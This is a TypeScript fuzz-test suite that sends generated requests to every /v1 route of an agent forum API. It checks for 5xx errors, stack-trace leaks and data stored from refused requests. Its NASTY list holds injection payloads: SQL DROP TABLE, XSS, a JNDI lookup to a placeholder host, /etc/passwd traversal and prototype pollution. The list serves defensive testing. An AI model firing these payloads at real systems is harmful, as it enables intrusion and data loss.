import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import fc from "fast-check";
import pg from "pg";
import { HTTP_STATUS } from "@aps/platform";
import { httpClient, type HttpResult } from "@aps/testkit";
import { availableModes, ROOT, startSystem, type System } from "../support/system.js";

/**
 * Property-based fuzzing of every `/v1` route (docs/architecture.md §4): fast-check builds requests
 * from a valid one by dropping, retyping and adding fields, swapping the body for any JSON value or
 * hostile text (SQL/JSON injection look-alikes, U+0000, lone surrogates, 70 000 characters, emoji),
 * hostile path ids and query strings, and bad `Authorization`, `Content-Type` and `Idempotency-Key`
 * headers. Properties:
 * 1. every answer is 2xx or a documented 4xx problem+json (never a 5xx, never a stack trace);
 * 2. nothing from a refused request is stored: every string a request carries is tagged with a
 *    marker unique to that request, and after the run every text/json/bytea column of every schema
 *    of the real database is scanned — a marker may appear only if its request got a 2xx.
 *    (The identity service's `idempotency_keys` table is left out of the scan: it keeps the answer
 *    to a keyed request, refused or not, by design — docs/architecture.md §4, Stripe semantics.)
 * The seed is fixed (FUZZ_SEED overrides it; FUZZ_RUNS sets the runs per route) so a failure is
 * reproducible; fast-check prints the shrunk counterexample.
 */
const real = (await availableModes()).includes("real");
if (!real)
  console.warn(
    "fuzz.test.ts: PostgreSQL/NATS are not reachable — fuzzing the embedded mode WITHOUT the database scan (property 2 is not checked)",
  );
const SEED = Number(process.env.FUZZ_SEED ?? 20261122);
const RUNS = Number(process.env.FUZZ_RUNS ?? 90);

/** Documented problem codes → status (docs/architecture.md §4; the platform's table is the source). */
const DOCUMENTED_4XX = new Map(Object.entries(HTTP_STATUS).filter(([, s]) => s >= 400 && s < 500));

/** Strings an attacker or a sloppy client sends. */
const NASTY = [
  "' OR '1'='1",
  "'; DROP TABLE forum.posts; --",
  '" OR ""="',
  '{"$ne": null}',
  '{"__proto__": {"admin": true}}',
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff\ud800",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "${jndi:ldap://x.example/a}",
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "\u202e\u0301\u200b",
  "🚀".repeat(300),
  "x".repeat(70_000),
  " ",
  "",
  "null",
  "true",
  "-1",
  "1e309",
  "NaN",
  "__proto__",
  "constructor",
];

const hostile: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);

/** Enum words kept verbatim (a marker would make them invalid, and we want valid paths too). */
const ENUM_WORDS = new Set([
  "approve",
  "reject",
  "self",
  "task",
  "councillor",
  "chief",
  "arch",
  "free",
  "all",
  "hot",
  "new",
]);

/** Prefixes every free-text string in `v` with `marker` (deeply); enum words and ids stay. */
function tag(v: unknown, marker: string): unknown {
  if (typeof v === "string") return ENUM_WORDS.has(v) || /^(p|c|ext)_[0-9A-Z]{26}$/.test(v) ? v : marker + v;
  if (Array.isArray(v)) return v.map((x) => tag(x, marker));
  if (v && typeof v === "object") return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, tag(x, marker)]));
  return v;
}

/** A body as the generator describes it: JSON to stringify, or raw text, or nothing. */
type Body = { json: unknown } | { raw: string } | { none: true };

/** Bodies derived from `valid` (an object route) — or anything, for a route that takes none. */
function bodies(valid: Record<string, unknown> | undefined): fc.Arbitrary<Body> {
  const anyJson = fc.jsonValue({ maxDepth: 3 });
  const arms: fc.Arbitrary<Body>[] = [
    anyJson.map((json) => ({ json })),
    hostile.map((raw) => ({ raw })),
    fc.constant<Body>({ none: true }),
  ];
  if (valid) {
    const keys = Object.keys(valid);
    arms.push(
      fc.constant<Body>({ json: valid }),
      fc
        .constantFrom(...keys)
        .map((k) => ({ json: Object.fromEntries(Object.entries(valid).filter(([key]) => key !== k)) })),
      fc.tuple(fc.constantFrom(...keys), fc.oneof(anyJson, hostile)).map(([k, v]) => ({ json: { ...valid, [k]: v } })),
      fc.tuple(fc.constantFrom(...keys), hostile).map(([k, v]) => ({ json: { ...valid, [k]: v } })),
      fc
        .tuple(
          fc.string({ minLength: 1, maxLength: 12 }).filter((k) => !keys.includes(k)),
          anyJson,
        )
        .map(([k, v]) => ({ json: { ...valid, [k]: v } })),
    );
  } else {
    arms.push(
      fc.constant<Body>({ json: {} }),
      fc.dictionary(fc.string({ maxLength: 8 }), anyJson, { minKeys: 1, maxKeys: 3 }).map((json) => ({ json })),
    );
  }
  return fc.oneof(...arms);
}

/** Header values fetch can send (visible Latin-1, no CR/LF); anything else becomes '?'. */
const headerSafe = (s: string) => s.replace(/[^\x20-\x7e\xa0-\xff]/g, "?").slice(0, 8_000);

type Auth = "valid" | "none" | "other" | { header: string };
const auths: fc.Arbitrary<Auth> = fc.oneof(
  { weight: 4, arbitrary: fc.constant<Auth>("valid") },
  { weight: 1, arbitrary: fc.constant<Auth>("none") },
  { weight: 1, arbitrary: fc.constant<Auth>("other") },
  {
    weight: 2,
    arbitrary: fc.oneof(
      hostile.map((s) => ({ header: `Bearer ${headerSafe(s)}` })),
      fc.constantFrom(
        { header: `Bearer sk_src_${"A".repeat(49)}` },
        { header: "Basic dXNlcjpwYXNz" },
        { header: "Bearer" },
        { header: "bearer  sk_src_" },
        { header: `Bearer ${"sk_src_".repeat(200)}` },
      ),
    ),
  },
);
const contentTypes = fc.oneof(
  { weight: 6, arbitrary: fc.constant("application/json") },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      "application/json; charset=utf-8",
      "application/json; charset=latin1",
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "application/merge-patch+json",
      "",
    ),
  },
  { weight: 1, arbitrary: hostile.map(headerSafe) },
);
const idemKeys = fc.option(fc.oneof(fc.uuid(), hostile.map(headerSafe)), { nil: undefined, freq: 3 });

/** Percent-encodes the UTF-8 bytes of `s` (lone surrogates become U+FFFD, as on the wire). */
const pct = (s: string) =>
  [...Buffer.from(s, "utf8")]
    .map((b) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, "0")}`,
    )
    .join("");

/** A path segment: a real id most of the time, else hostile text (URL-encoded) or broken escapes. */
const segment = (real: () => string) =>
  fc
    .oneof(
      { weight: 3, arbitrary: fc.constant(null) },
      { weight: 2, arbitrary: hostile.map((s) => pct(s.slice(0, 300)) || "%20") },
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          "%",
          "%zz",
          "%C0%AF",
          "%ED%A0%80",
          "%00",
          "..",
          "%2e%2e",
          "%2F",
          "p_01ARZ3NDEKTSV4RRFFQ69G5FAV",
          "ext_01ARZ3NDEKTSV4RRFFQ69G5FAV",
        ),
      },
    )
    .map((s) => s ?? real());

/** A query string over `names` (plus unknown names), with repeats and hostile values. */
function queries(names: string[], valid: Record<string, string>): fc.Arbitrary<string> {
  const pair = fc.tuple(
    fc.oneof(fc.constantFrom(...names), fc.string({ maxLength: 6 })),
    fc.oneof(
      hostile.map((s) => s.slice(0, 600)),
      fc.integer({ min: -5, max: 500 }).map(String),
    ),
  );
  return fc.oneof(
    fc.constant(new URLSearchParams(valid).toString()),
    fc.array(pair, { maxLength: 4 }).map((ps) => new URLSearchParams([...Object.entries(valid), ...ps]).toString()),
    fc.array(pair, { maxLength: 4 }).map((ps) => new URLSearchParams(ps).toString()),
  );
}

interface Ctx {
  sys: System;
  /** Agent whose key is used for "valid" (a councillor and chief, so the council routes get deep). */
  key: string;
  /** Another agent's key ("other"). */
  otherKey: string;
  /** Keys that `POST /me/keys/rotate` may rotate (replaced from its answer). */
  rotating: { key: string };
  agentId: string;
  /** An agent the owner's access routes (suspend, reinstate, revoke keys) aim at (ADR 0116). */
  victimId: string;
  postId: string;
}

interface Route {
  method: "GET" | "POST" | "DELETE";
  /** Express-style template, for reports. */
  name: string;
  path: (c: Ctx) => fc.Arbitrary<string>;
  /** The valid body of a POST (undefined = takes none). */
  body?: Record<string, unknown>;
  query?: { names: string[]; valid: Record<string, string> };
  /** Which Authorization the route gets as "valid". */
  authAs?: "agent" | "admin" | "rotating";
}

const ROUTES: Route[] = [
  { method: "GET", name: "/skill-version", path: () => fc.constant("/skill-version") },
  { method: "GET", name: "/openapi.json", path: () => fc.constant("/openapi.json") },
  { method: "GET", name: "/capabilities", path: () => fc.constant("/capabilities") },
  {
    method: "GET",
    name: "/skill.md",
    path: () => fc.constant("/skill.md"),
    query: { names: ["lang"], valid: { lang: "en" } },
  },
  {
    method: "POST",
    name: "/join",
    path: () => fc.constant("/join"),
    body: { name: "fuzz agent", url: "https://agent.example/" },
  },
  { method: "GET", name: "/me", path: () => fc.constant("/me") },
  {
    method: "GET",
    name: "/me/sagacity",
    path: () => fc.constant("/me/sagacity"),
    query: { names: ["limit", "cursor"], valid: { limit: "5" } },
  },
  { method: "POST", name: "/me/keys/rotate", path: () => fc.constant("/me/keys/rotate"), authAs: "rotating" },
  { method: "GET", name: "/agents/:agentId", path: (c) => segment(() => c.agentId).map((s) => `/agents/${s}`) },
  {
    method: "GET",
    name: "/agents/:agentId/posts",
    path: (c) => segment(() => c.agentId).map((s) => `/agents/${s}/posts`),
    query: { names: ["limit", "cursor"], valid: { limit: "2" } },
  },
  {
    method: "GET",
    name: "/posts",
    path: () => fc.constant("/posts"),
    query: { names: ["kind", "sort", "limit", "cursor"], valid: { kind: "arch", sort: "new", limit: "3" } },
  },
  { method: "GET", name: "/posts/:id", path: (c) => segment(() => c.postId).map((s) => `/posts/${s}`) },
  {
    method: "GET",
    name: "/posts/:id/comments",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/comments`),
    query: { names: ["limit", "cursor"], valid: { limit: "2" } },
  },
  {
    method: "POST",
    name: "/posts",
    path: () => fc.constant("/posts"),
    body: { title: "fuzzed title", body: "fuzzed **body**", is_arch_design: true },
  },
  {
    method: "POST",
    name: "/posts/:id/comments",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/comments`),
    body: { body: "fuzzed comment" },
  },
  {
    method: "POST",
    name: "/posts/:id/vote",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/vote`),
    body: { vote: 1 },
  },
  {
    method: "GET",
    name: "/agenda",
    path: () => fc.constant("/agenda"),
    query: { names: ["limit", "cursor"], valid: { limit: "5" } },
  },
  {
    method: "POST",
    name: "/posts/:id/nominate",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/nominate`),
  },
  {
    method: "POST",
    name: "/posts/:id/council",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/council`),
    body: { vote: "approve", reason: "fuzzed reason" },
  },
  {
    method: "POST",
    name: "/posts/:id/handoff",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/handoff`),
    body: { implementation: "task", executor: "fuzz executor" },
  },
  {
    method: "POST",
    name: "/posts/:id/complete",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/complete`),
  },
  // Council depth and flags (docs/adr/0130, 0131)
  {
    method: "POST",
    name: "/posts/:id/duplicate",
    // an absent post (404): closing the fuzzer's own target would change what the other routes test
    path: () => segment(() => "p_01ARZ3NDEKTSV4RRFFQ69G5FAV").map((s) => `/posts/${s}/duplicate`),
    body: { of: "p_01ARZ3NDEKTSV4RRFFQ69G5FAW" },
  },
  {
    method: "POST",
    name: "/posts/:id/concerns",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/concerns`),
    body: { reason: "fuzzed concern" },
  },
  {
    method: "POST",
    name: "/posts/:id/concerns/:cid/resolve",
    path: (c) =>
      fc
        .tuple(
          segment(() => c.postId),
          segment(() => "cn_01ARZ3NDEKTSV4RRFFQ69G5FAV"),
        )
        .map(([p, k]) => `/posts/${p}/concerns/${k}/resolve`),
    body: { note: "fuzzed note" },
  },
  {
    method: "POST",
    name: "/posts/:id/progress",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/progress`),
    body: { note: "fuzzed progress", percent: 50 },
  },
  {
    method: "POST",
    name: "/posts/:id/flags",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/flags`),
    body: { reason: "other", text: "fuzzed flag" },
  },
  {
    method: "POST",
    name: "/comments/:id/flags",
    path: () => segment(() => "c_01ARZ3NDEKTSV4RRFFQ69G5FAV").map((s) => `/comments/${s}/flags`),
    body: { reason: "spam" },
  },
  {
    method: "GET",
    name: "/knowledge/search",
    path: () => fc.constant("/knowledge/search"),
    query: { names: ["q", "tags", "limit"], valid: { q: "proposal", tags: "post" } },
  },
  {
    method: "GET",
    name: "/posts/similar",
    path: () => fc.constant("/posts/similar"),
    query: { names: ["title", "body", "limit"], valid: { title: "fuzzed title" } },
  },
  { method: "GET", name: "/me/quotas", path: () => fc.constant("/me/quotas") },
  {
    method: "GET",
    name: "/posts/:id/translation",
    path: (c) => segment(() => c.postId).map((s) => `/posts/${s}/translation`),
    query: { names: ["lang"], valid: { lang: "es" } },
  },
  {
    method: "GET",
    name: "/posts/translations",
    path: () => fc.constant("/posts/translations"),
    query: { names: ["lang", "ids"], valid: { lang: "es", ids: "POSTID" } },
  },
  {
    method: "POST",
    name: "/admin/seats",
    path: () => fc.constant("/admin/seats"),
    body: { agentId: "AGENT", seat: "councillor" },
    authAs: "admin",
  },
  {
    method: "DELETE",
    name: "/admin/seats/:agentId/:seat",
    path: (c) =>
      fc
        .tuple(
          segment(() => c.agentId),
          fc.oneof(
            fc.constantFrom("councillor", "chief"),
            hostile.map((s) => pct(s) || "x"),
          ),
        )
        .map(([a, s]) => `/admin/seats/${a}/${s}`),
    authAs: "admin",
  },
  {
    method: "POST",
    name: "/admin/agents/:agentId/suspend",
    path: (c) => segment(() => c.victimId).map((s) => `/admin/agents/${s}/suspend`),
    body: { reason: "fuzzed suspension" },
    authAs: "admin",
  },
  {
    method: "POST",
    name: "/admin/agents/:agentId/reinstate",
    path: (c) => segment(() => c.victimId).map((s) => `/admin/agents/${s}/reinstate`),
    authAs: "admin",
  },
  {
    method: "POST",
    name: "/admin/agents/:agentId/keys/revoke",
    path: (c) => segment(() => c.victimId).map((s) => `/admin/agents/${s}/keys/revoke`),
    authAs: "admin",
  },
  {
    method: "POST",
    name: "/admin/comments/:id/hide",
    path: () => segment(() => "c_01ARZ3NDEKTSV4RRFFQ69G5FAV").map((s) => `/admin/comments/${s}/hide`),
    body: { reason: "fuzzed moderation" },
    authAs: "admin",
  },
  {
    method: "POST",
    name: "/admin/comments/:id/unhide",
    path: () => segment(() => "c_01ARZ3NDEKTSV4RRFFQ69G5FAV").map((s) => `/admin/comments/${s}/unhide`),
    authAs: "admin",
  },
  {
    method: "POST",
    name: "/admin/posts/:id/hide",
    // an absent post (404): hiding the fuzzer's own target would change what the other routes test
    path: () => segment(() => "p_01ARZ3NDEKTSV4RRFFQ69G5FAV").map((s) => `/admin/posts/${s}/hide`),
    body: { reason: "fuzzed moderation" },
    authAs: "admin",
  },
  {
    method: "POST",
    name: "/admin/posts/:id/unhide",
    path: (c) => segment(() => c.postId).map((s) => `/admin/posts/${s}/unhide`),
    authAs: "admin",
  },
  {
    method: "GET",
    name: "/admin/events/dlq",
    path: () => fc.constant("/admin/events/dlq"),
    query: { names: ["limit"], valid: { limit: "10" } },
    authAs: "admin",
  },
  {
    method: "POST",
    name: "/admin/events/dlq/:id/replay",
    path: () => segment(() => "1").map((s) => `/admin/events/dlq/${s}/replay`),
    authAs: "admin",
  },
];

/** One generated request. */
interface Req {
  path: string;
  query: string;
  body: Body;
  auth: Auth;
  contentType: string;
  idempotencyKey: string | undefined;
}

const modes = real ? (["real"] as const) : (["embedded"] as const);

/**
 * The `/v1` routes the gateway defines, read from its route modules (services/gateway/src/routes,
 * all mounted under /v1 except the /docs pages): the fuzzer must cover each of them.
 */
function gatewayV1Routes(): string[] {
  const dir = join(ROOT, "services/gateway/src/routes");
  const out: string[] = [];
  for (const f of readdirSync(dir).filter((f) => f.endsWith(".ts") && !f.endsWith(".test.ts") && f !== "docs.ts")) {
    for (const m of readFileSync(join(dir, f), "utf8").matchAll(/\.(get|post|put|patch|delete)\(\s*"(\/[^"]*)"/g))
      out.push(`${m[1]!.toUpperCase()} ${m[2]}`);
  }
  return [...new Set(out)].sort();
}

it("the fuzzer covers every /v1 route the gateway defines", () => {
  const routes = gatewayV1Routes();
  expect(routes.length).toBeGreaterThan(20);
  expect(ROUTES.map((r) => `${r.method} ${r.name}`).sort()).toEqual(routes);
});

/**
 * A translation engine for the translation routes: a LibreTranslate-API stub in the test (no
 * translation engine runs here; test/e2e/translation.test.ts covers the real Apertium). It
 * answers each text with itself prefixed by the target language.
 */
async function startTranslationStub(): Promise<{ url: string; stop(): Promise<void> }> {
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (c: Buffer) => (body += c.toString()));
    req.on("end", () => {
      const q = JSON.parse(body || "{}") as { q?: string[] | string; target?: string };
      const texts = Array.isArray(q.q) ? q.q : [q.q ?? ""];
      res
        .writeHead(200, { "content-type": "application/json" })
        .end(JSON.stringify({ translatedText: texts.map((t) => `[${q.target}] ${t}`) }));
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stop: () => new Promise<void>((r) => (server.closeAllConnections(), server.close(() => r()))),
  };
}

describe.each(modes)("fuzzing every route (%s; translation engine: a LibreTranslate-API stub)", (mode) => {
  let sys: System;
  let ctx: Ctx;
  let seq = 0;
  /** marker → the request's route, status and whether it was accepted (2xx). */
  const sent = new Map<string, { route: string; status: number }>();
  const statusCounts = new Map<number, number>();
  const failures: string[] = [];

  let engine: Awaited<ReturnType<typeof startTranslationStub>>;

  beforeAll(async () => {
    engine = await startTranslationStub();
    sys = await startSystem(mode, {
      env: {
        POSTS_PER_DAY: "100000",
        COMMENTS_PER_DAY: "100000",
        JOINS_PER_SOURCE_PER_DAY: "100000",
        TRANSLATION_ENGINE: "libretranslate",
        LIBRETRANSLATE_URL: engine.url,
      },
    });
    const req = httpClient(sys.baseUrl);
    const a = await req("POST", "/join", { body: { name: "fuzz councillor" } });
    const b = await req("POST", "/join", { body: { name: "fuzz bystander" } });
    const r = await req("POST", "/join", { body: { name: "fuzz rotator" } });
    const v = await req("POST", "/join", { body: { name: "fuzz victim" } });
    for (const seat of ["councillor", "chief"]) {
      const g = await req("POST", "/admin/seats", {
        headers: { authorization: `Bearer ${sys.adminToken}` },
        body: { agentId: a.body.agentId, seat },
      });
      expect(g.status).toBeLessThan(300);
    }
    const p = await req("POST", "/posts", {
      key: b.body.apiKey,
      body: { title: "Fuzz target", body: "A proposal the fuzzer aims at.", is_arch_design: true },
    });
    expect(p.status).toBe(201);
    ctx = {
      sys,
      key: a.body.apiKey,
      otherKey: b.body.apiKey,
      rotating: { key: r.body.apiKey },
      agentId: a.body.agentId,
      victimId: v.body.agentId,
      postId: p.body.id,
    };
  }, 240_000);

  afterAll(async () => {
    await sys?.stop();
    await engine?.stop();
  });

  /** Sends one generated request and checks property 1; records the marker for property 2. */
  async function send(route: Route, r: Req): Promise<void> {
    const marker = `FUZZMARK${(++seq).toString(36)}X`;
    const headers: Record<string, string> = {};
    const authAs = route.authAs ?? "agent";
    if (r.auth === "valid") {
      headers.authorization = `Bearer ${authAs === "admin" ? sys.adminToken : authAs === "rotating" ? ctx.rotating.key : ctx.key}`;
    } else if (r.auth === "other") headers.authorization = `Bearer ${ctx.otherKey}`;
    else if (r.auth !== "none") headers.authorization = r.auth.header;
    if (r.idempotencyKey !== undefined) headers["idempotency-key"] = marker + r.idempotencyKey;
    let payload: string | undefined;
    if ("json" in r.body) {
      const json =
        route.name === "/admin/seats"
          ? JSON.parse(JSON.stringify(r.body.json).replaceAll('"AGENT"', JSON.stringify(ctx.agentId)))
          : r.body.json;
      payload = JSON.stringify(tag(json, marker));
    } else if ("raw" in r.body) payload = marker + r.body.raw;
    if (payload !== undefined && r.contentType !== "") headers["content-type"] = r.contentType;
    const query = r.query ? `?${r.query.replaceAll("POSTID", ctx.postId)}` : "";
    const url = `${sys.baseUrl}${r.path}${query}`;
    const res = await fetch(url, { method: route.method, headers, body: route.method === "GET" ? undefined : payload });
    const text = await res.text();
    sent.set(marker, { route: `${route.method} ${route.name}`, status: res.status });
    statusCounts.set(res.status, (statusCounts.get(res.status) ?? 0) + 1);
    const label = `${route.method} ${(r.path + query).slice(0, 200)} auth=${typeof r.auth === "string" ? r.auth : "custom"} ct=${JSON.stringify(r.contentType)} body=${(payload ?? "").slice(0, 200)}`;
    const ct = res.headers.get("content-type") ?? "";
    if (res.status >= 500) failures.push(`${res.status} ${label}: ${text.slice(0, 300)}`);
    expect({ label, status: res.status, fiveXX: res.status >= 500 }).toEqual({
      label,
      status: res.status,
      fiveXX: false,
    });
    expect(text).not.toMatch(/\n\s+at [\w.<>]+ \(|\.(?:ts|js):\d+:\d+/);
    if (res.status >= 400) {
      const result: HttpResult = {
        status: res.status,
        headers: res.headers,
        body: /json/.test(ct) ? JSON.parse(text) : text,
        text,
      };
      expect({ label, ct }).toEqual({ label, ct: expect.stringMatching(/^application\/problem\+json/) });
      expect({ label, code: result.body.code, status: DOCUMENTED_4XX.get(result.body.code) }).toEqual({
        label,
        code: result.body.code,
        status: res.status,
      });
      expect(result.body.status).toBe(res.status);
    } else {
      expect([200, 201, 204]).toContain(res.status);
      if (route.authAs === "rotating" && r.auth === "valid" && res.status === 200) {
        const answer = JSON.parse(text);
        expect(typeof answer.apiKey).toBe("string");
        ctx.rotating.key = answer.apiKey;
      }
    }
  }

  it.each(ROUTES.map((r) => [`${r.method} ${r.name}`, r] as const))(
    "%s: every answer is 2xx or a documented 4xx problem",
    async (_name, route) => {
      const req: fc.Arbitrary<Req> = fc.record({
        path: route.path(ctx),
        query: route.query ? queries(route.query.names, route.query.valid) : fc.constant(""),
        body: route.method === "GET" ? fc.constant<Body>({ none: true }) : bodies(route.body),
        auth: auths,
        contentType: contentTypes,
        idempotencyKey: route.method === "GET" ? fc.constant(undefined) : idemKeys,
      });
      await fc.assert(
        fc.asyncProperty(req, (r) => send(route, r)),
        { seed: SEED + route.name.length * 31 + route.method.length, numRuns: RUNS, endOnFailure: true },
      );
      expect(failures).toEqual([]);
    },
  );

  it("stores nothing from a refused request (every column of every schema scanned for the markers)", async () => {
    const total = [...statusCounts.values()].reduce((a, b) => a + b, 0);
    console.log(
      `fuzz (${mode}): ${total} requests over ${ROUTES.length} routes; statuses ${JSON.stringify(Object.fromEntries([...statusCounts].sort((a, b) => a[0] - b[0])))}`,
    );
    expect(total).toBe(ROUTES.length * RUNS);
    const refused = [...sent.values()].filter((s) => s.status >= 400).length;
    expect(refused).toBeGreaterThan(total / 2);
    if (!real) {
      console.warn(
        "fuzz.test.ts: no real PostgreSQL here — the database scan for refused requests' markers was NOT run",
      );
      return;
    }
    const client = new pg.Client({ connectionString: sys.env!.DATABASE_URL });
    await client.connect();
    try {
      const cols = await client.query<{ s: string; t: string; c: string; d: string }>(
        `SELECT c.table_schema AS s, c.table_name AS t, c.column_name AS c, c.data_type AS d
           FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name)
          WHERE t.table_type = 'BASE TABLE' AND c.table_schema NOT IN ('pg_catalog', 'information_schema')
            AND c.data_type IN ('text', 'character varying', 'jsonb', 'json', 'bytea', 'ARRAY')`,
      );
      const scanned = cols.rows.filter((col) => col.t !== "idempotency_keys");
      expect(scanned.length).toBeGreaterThan(10);
      const found = new Map<string, string>();
      for (const col of scanned) {
        const ident = (x: string) => `"${x.replaceAll('"', '""')}"`;
        const expr = col.d === "bytea" ? `encode(${ident(col.c)}, 'escape')` : `${ident(col.c)}::text`;
        const rows = await client.query<{ v: string }>(
          `SELECT ${expr} AS v FROM ${ident(col.s)}.${ident(col.t)} WHERE ${expr} LIKE '%FUZZMARK%'`,
        );
        for (const row of rows.rows)
          for (const m of row.v.matchAll(/FUZZMARK[0-9a-z]+X/g)) found.set(m[0], `${col.s}.${col.t}.${col.c}`);
      }
      const storedFromRefused = [...found]
        .filter(([m]) => (sent.get(m)?.status ?? 0) >= 300)
        .map(([m, where]) => `${m} (${sent.get(m)?.route} → ${sent.get(m)?.status}) in ${where}`);
      expect(storedFromRefused).toEqual([]);
      // The scan can see what was stored: accepted writes that carried text left their markers.
      const acceptedPosts = [...sent].filter(([, s]) => s.route === "POST /posts" && s.status === 201).map(([m]) => m);
      expect(acceptedPosts.length).toBeGreaterThan(0);
      for (const m of acceptedPosts) expect(found.has(m)).toBe(true);
      console.log(
        `fuzz (${mode}): ${scanned.length} columns scanned; ${found.size} markers stored, all from 2xx requests; ${refused} refused requests left nothing`,
      );
    } finally {
      await client.end();
    }
  }, 240_000);
});
